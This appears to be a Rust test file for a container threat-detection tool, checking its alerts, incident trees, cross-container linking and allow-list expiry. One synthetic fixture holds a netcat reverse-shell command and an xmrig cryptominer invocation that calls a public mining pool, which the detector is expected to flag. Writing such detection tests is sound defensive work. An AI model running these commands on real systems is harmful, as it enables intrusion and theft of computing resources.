//! The allow-list, incidents, and what an alert tells besides its score.

mod common;

use std::fs;
use std::path::{Path, PathBuf};

use common::{BEGIN, SECOND, Script, attacked, replay, stderr, stdout};
use serde_json::Value;

fn lines(out: &Path, name: &str) -> Vec<Value> {
    let text = fs::read_to_string(out.join(name)).unwrap();
    text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
}

fn run_json(out: &Path) -> Value {
    serde_json::from_str(&fs::read_to_string(out.join("run.json")).unwrap()).unwrap()
}

fn is_raised(alert: &Value) -> bool {
    alert["severity"] != "low" && alert["allowed"].is_null()
}

/// The attack replayed, with further arguments; its directory.
fn replayed(tmp: &Path, name: &str, args: &[&str]) -> (PathBuf, std::process::Output) {
    let recording = tmp.join("rec");
    if !recording.exists() {
        attacked(&recording);
    }
    let out = tmp.join(name);
    let fixed = [recording.to_str().unwrap(), "-o", out.to_str().unwrap()];
    let output = replay(&[&fixed[..], args].concat());
    assert!(output.status.code().is_some_and(|code| code < 2), "{}", stderr(&output));
    (out, output)
}

#[test]
fn an_alert_tells_what_to_do_and_where() {
    let tmp = tempfile::tempdir().unwrap();
    let (out, output) = replayed(tmp.path(), "out", &[]);
    let alerts = lines(&out, "alerts.jsonl");
    let miner = alerts.iter().find(|alert| alert["technique"]["id"] == "T1496").unwrap();
    assert_eq!(miner["runtime"], "podman");
    assert_eq!(miner["technique"]["tactics"][0]["name"], "Impact");
    assert_eq!(miner["commands"][0]["run"], "podman pause app");
    assert!(miner["rules"].as_array().is_some_and(|rules| !rules.is_empty()), "{miner}");
    let (table, report) = (stdout(&output), fs::read_to_string(out.join("report.html")).unwrap());
    for text in [&table, &report] {
        for needle in ["podman pause app", "Impact", "podman export"] {
            assert!(text.contains(needle), "{needle} is not in\n{text}");
        }
    }
    assert!(table.contains("evidence    process/0/"), "{table}");
    let file = fs::File::open(out.join("alerts.parquet")).unwrap();
    let reader = parquet::arrow::arrow_reader::ParquetRecordBatchReader::try_new(file, 1024).unwrap();
    let batch = reader.map(Result::unwrap).next().unwrap();
    for column in ["image_digest", "runtime", "namespace", "tactics", "commands", "rules", "host_paths", "allowed"] {
        assert!(batch.column_by_name(column).is_some(), "{column}");
    }
}

#[test]
fn an_incident_is_its_alerts_in_a_tree() {
    let tmp = tempfile::tempdir().unwrap();
    let (out, output) = replayed(tmp.path(), "out", &[]);
    let alerts = lines(&out, "alerts.jsonl");
    let incidents = lines(&out, "incidents.jsonl");
    let ids: Vec<&str> =
        incidents.iter().flat_map(|i| i["alerts"].as_array().unwrap()).map(|id| id.as_str().unwrap()).collect();
    assert_eq!(ids.len(), alerts.len(), "each alert is of one incident");
    let raised = incidents.iter().filter(|incident| incident["severity"] != "low").count();
    assert_eq!(run_json(&out)["counts"]["incidents"], raised);
    for incident in incidents.iter().filter(|incident| incident["severity"] != "low") {
        let of = |alert: &&Value| alert["incident"] == incident["id"];
        let highest =
            alerts.iter().filter(of).filter(|a| is_raised(a)).map(|a| a["score"].as_f64().unwrap()).fold(0.0, f64::max);
        let severity = alerts.iter().filter(of).find(|a| a["score"] == highest).unwrap()["severity"].clone();
        assert_eq!(incident["severity"], severity);
        let marked: Vec<&Value> =
            incident["tree"].as_array().unwrap().iter().map(|node| &node["alert"]).filter(|a| !a.is_null()).collect();
        assert_eq!(
            marked.len(),
            incident["alerts"].as_array().unwrap().len(),
            "every alert is marked in the tree: {incident}"
        );
        let id = incident["id"].as_str().unwrap();
        assert!(stdout(&output).contains(&format!("INCIDENT {id}  ")), "{}", stdout(&output));
    }
}

#[test]
fn who_moves_to_another_container_is_one_incident() {
    let tmp = tempfile::tempdir().unwrap();
    for (name, wait, joined) in [("soon", 2, true), ("late", 90, false)] {
        let mut script = Script::new();
        script.ordinary(0, 280);
        let ts = BEGIN + 180 * SECOND + SECOND / 2;
        // A shell in the web server's container takes a tool, which connects to the app's.
        let shell = script.exec(ts, 2, "/usr/bin/dash", &["/bin/sh", "-c", "/tmp/.x/nc -e /bin/sh 10.89.0.2 4444"]);
        let tool = script.exec(ts + 1, shell, "/tmp/.x/nc", &["/tmp/.x/nc", "-e", "/bin/sh", "10.89.0.2", "4444"]);
        script.connect(ts + 2, tool, "10.89.0.2", 4444);
        // Then the app does what it never did.
        let later = ts + wait * SECOND;
        let argv =
            ["/tmp/.y/xmrig", "-o", "stratum+tcp://pool.minexmr.com:3333", "-u", "4wallet", "--donate-level", "1"];
        let miner = script.exec(later, 1, "/tmp/.y/xmrig", &argv);
        script.connect(later + 1, miner, "10.89.1.9", 3333);
        let recording = script.write(&tmp.path().join(name));
        let out = tmp.path().join(format!("{name}-out"));
        let output = replay(&[recording.to_str().unwrap(), "-o", out.to_str().unwrap()]);
        assert!(output.status.success(), "{}", stderr(&output));
        let incidents = lines(&out, "incidents.jsonl");
        let both = incidents.iter().find(|incident| incident["containers"].as_array().unwrap().len() == 2);
        assert_eq!(both.is_some(), joined, "{name}: {incidents:#?}");
        let Some(incident) = both else { continue };
        let alerts = lines(&out, "alerts.jsonl");
        let container = |id: &Value| alerts.iter().find(|alert| alert["id"] == *id).unwrap()["container_name"].clone();
        let link = &incident["links"][0];
        assert_eq!((container(&link["from"]), container(&link["to"])), ("web".into(), "app".into()));
        assert!((link["after_s"].as_f64().unwrap() - 2.0).abs() < 0.01, "{link}");
        assert!(stdout(&output).contains(" connected to its container"), "{}", stdout(&output));
        // Told not to look across containers, it does not.
        let output = replay(&[recording.to_str().unwrap(), "-o", out.to_str().unwrap(), "--set", "alerts.lateral=0"]);
        assert!(output.status.success(), "{}", stderr(&output));
        assert!(lines(&out, "incidents.jsonl").iter().all(|incident| incident["links"] == serde_json::json!([])));
    }
}

#[test]
fn what_is_allowed_is_kept_marked_and_not_raised() {
    let tmp = tempfile::tempdir().unwrap();
    let (out, _) = replayed(tmp.path(), "out", &[]);
    let raised: Vec<Value> = lines(&out, "alerts.jsonl").into_iter().filter(is_raised).collect();
    let list = tmp.path().join("allow.toml");
    let list = list.to_str().unwrap();
    // The recording is of 2025: what holds until the end of 2026 holds for it, whatever today is.
    for alert in &raised {
        let id = alert["id"].as_str().unwrap();
        let from = out.to_str().unwrap();
        let output = replay(&[
            "allow",
            id,
            "--from",
            from,
            "--reason",
            "a drill",
            "--until",
            "2026-12-31",
            "--author",
            "me",
            "--file",
            list,
        ]);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    }
    let mut text = fs::read_to_string(list).unwrap();
    text.push_str("[[allow]]\nimage = 'nobody/*'\nreason = 'gone'\nuntil = 2026-12-31\n");
    fs::write(list, &text).unwrap();
    let (out, output) = replayed(tmp.path(), "allowed", &["--allow", list, "--fail-on", "medium"]);
    assert_eq!(output.status.code(), Some(0), "nothing is raised: {}", stdout(&output));
    let alerts = lines(&out, "alerts.jsonl");
    assert!(!alerts.iter().any(is_raised));
    let allowed: Vec<_> = alerts.iter().filter(|alert| !alert["allowed"].is_null()).collect();
    assert!(
        allowed.len() >= raised.len()
            && allowed[0]["allowed"]["reason"] == "a drill"
            && allowed[0]["allowed"]["author"] == "me"
    );
    let run = run_json(&out);
    assert_eq!((&run["allowed"]["alerts"], &run["counts"]["incidents"]), (&allowed.len().into(), &0.into()));
    assert!(run["counts"]["alerts"].get("critical").is_none());
    let last = run["allowed"]["entries"].as_array().unwrap().last().unwrap();
    assert_eq!((&last["match"]["image"], &last["alerts"]), (&"nobody/*".into(), &serde_json::json!([])));
    let report = fs::read_to_string(out.join("report.html")).unwrap();
    for text in [&stdout(&output), &report] {
        for needle in ["a drill", "2026-12-31", "matched nothing"] {
            assert!(text.contains(needle), "{needle} is not in\n{text}");
        }
    }

    // The same list, expired on the day before the recording: all is raised again, and it says why.
    fs::write(list, text.replace("2026-12-31", "2025-10-08")).unwrap();
    let (out, output) = replayed(tmp.path(), "expired", &["--allow", list]);
    assert_eq!(lines(&out, "alerts.jsonl").iter().filter(|alert| is_raised(alert)).count(), raised.len());
    assert!(stdout(&output).contains("expired 2025-10-08, before "), "{}", stdout(&output));

    // One deviation that the pattern does not cover keeps an alert raised.
    fs::write(list, "[[allow]]\npath = '*xmrig*'\nreason = 'x'\nuntil = 2026-12-31\n").unwrap();
    let (out, _) = replayed(tmp.path(), "part", &["--allow", list]);
    let alerts = lines(&out, "alerts.jsonl");
    for alert in alerts.iter().filter(|alert| alert["severity"] != "low") {
        let all = alert["deviations"].as_array().unwrap().iter().all(|d| d["text"].as_str().unwrap().contains("xmrig"));
        assert_eq!(!alert["allowed"].is_null(), all, "{alert}");
    }
    assert!(alerts.iter().any(is_raised));

    fs::write(list, "[[allow]]\nimage = '*'\nuntil = 2026-12-31\n").unwrap();
    let output = replay(&[tmp.path().join("rec").to_str().unwrap(), "--allow", list]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("entry 1: `reason` is missing"), "{}", stderr(&output));
}
